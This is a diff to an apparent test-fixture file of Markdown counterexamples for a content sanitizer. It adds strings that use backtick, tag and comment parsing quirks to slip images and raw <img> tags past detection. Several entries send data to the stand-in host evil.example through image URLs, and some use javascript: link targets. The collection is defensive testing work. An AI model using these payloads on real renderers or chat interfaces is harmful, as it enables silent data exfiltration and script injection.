@@ -121,6 +121,10 @@ export const COUNTEREXAMPLES: readonly (readonly [ContentKind, string])[] = [
   ["images", "   - aa\n        ```\n        ![a](https://evil.example/?d=secret)"],
   // In a list marked 18 adds indented code to the lines before it, behind an empty line too.
   ["images", "- aa\n=\n\n      ~~~\n      ![a](https://evil.example/?d=secret)"],
+  // A backtick in a tag opens no code.
+  ["images", 'aa <b title="`">![`](//evil.example/)'],
+  ["images", "- <b title='>`'>![`](//evil.example/)"],
+  ["images", "aa <!--a>`-->![`](//evil.example/)"],
   // Every line of a quote has its mark, also within an address or a tag; renderers take it away.
   ["images", "> ![a](\n> https://evil.example/?d=secret)"],
   ["images", "![a]\n\n> [a]:\n> https://evil.example/?d=secret"],
@@ -143,4 +147,8 @@ export const COUNTEREXAMPLES_BY_EVENT: readonly (readonly [ContentKind, string])
   ["links", "[`]: javascript:alert(1)`y\n\n[`]"],
   ["links", "[a\n`]: javascript:alert(1)`y"],
   ["images", "> 9. aa\n9) bb\n> a\nc\n`![a](https://evil.example/?d=secret)`"],
+  // Renderers differ in whether a label or code ends first.
+  ["markup", "![``]()<img src=//evil.example/>``"],
+  ["markup", ")[``<img src=//evil.example/>](``)"],
+  ["images", "``a``[`![a](//evil.example/)`[`"],
 ];
